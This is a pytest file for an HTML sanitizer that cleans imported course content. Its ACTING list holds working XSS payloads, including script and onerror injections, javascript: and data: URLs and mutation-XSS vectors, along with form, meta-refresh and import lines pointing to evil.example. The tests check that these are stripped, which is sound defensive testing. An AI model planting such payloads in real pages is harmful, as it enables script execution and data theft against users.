"""Foreign HTML comes in without anything that acts, and says what it lost."""

from __future__ import annotations

import re

import pytest

from tequio.learning.exchange.cleaning import Cleaning

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000002000000030806000000b94c3e4f0000000049454e44ae426082"
)

ACTING = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<form action="https://evil.example"><input name=pin></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<object data="https://evil.example/x.swf"></object>',
]


def clean(text: str, **files: bytes) -> tuple[str, Cleaning]:
    cleaning = Cleaning({name.replace("_", "."): data for name, data in files.items()}, "Open at {}".format)
    return cleaning.fragment(text), cleaning


@pytest.mark.parametrize("text", ACTING)
def test_nothing_that_acts_comes_through(text: str):
    html, _ = clean(f"<p>before</p>{text}<p>after</p>")

    assert not re.search(
        r"<(script|iframe|svg|math|style|form|input|object|meta|link)|on\w+=|javascript:|data:", html, re.I
    )
    assert "before" in html


def test_a_picture_of_the_archive_is_named_by_its_digest():
    html, cleaning = clean('<img src="/static/a.png" alt="A map">', a_png=PIXEL)

    (digest,) = cleaning.pictures
    assert f'src="sha256:{digest}"' in html
    assert 'width="2" height="3"' in html or ('width="2"' in html and 'height="3"' in html)


def test_a_missing_picture_leaves_its_description_and_a_remark():
    html, cleaning = clean('<p>See <img src="/static/none.png" alt="the map"> here</p>')

    assert "<em>the map</em> here" in html
    assert any("none.png" in remark for remark in cleaning.remarks)


def test_a_picture_from_elsewhere_is_never_fetched():
    html, cleaning = clean('<img src="https://evil.example/pixel.png" alt="">')

    assert "evil.example" not in html
    assert cleaning.remarks


def test_what_plays_elsewhere_becomes_a_link_that_says_so():
    html, cleaning = clean('<iframe src="https://forms.example/f"></iframe>')

    assert '<a href="https://forms.example/f"' in html
    assert "Open at forms.example" in html
    assert cleaning.remarks


def test_headings_start_at_h2_and_skip_none():
    html, _ = clean("<h1>A</h1><h4>B</h4><h1>C</h1>")

    assert re.findall(r"<h(\d)", html) == ["2", "3", "2"]


def test_a_link_into_the_old_platform_keeps_its_words():
    html, cleaning = clean('<a href="/jump_to_id/abc">next page</a>')

    assert "next page" in html
    assert "jump_to_id" not in html
    assert cleaning.remarks


@pytest.mark.parametrize(
    "text", ['<img src="http://[x/a.png" alt="map">', '<iframe src="http://[x/"></iframe>']
)
def test_an_address_that_cannot_be_read_stops_nothing(text: str):
    html, cleaning = clean(f"<p>before</p>{text}<p>after</p>")
    assert "before" in html
    assert "after" in html
    assert cleaning.remarks


def test_a_list_directly_inside_a_list_joins_the_item_before_it():
    html, _ = clean("<ol><li>one</li><ol><li>half</li></ol><li>two</li></ol>")

    assert html == "<ol><li>one<ol><li>half</li></ol></li><li>two</li></ol>"
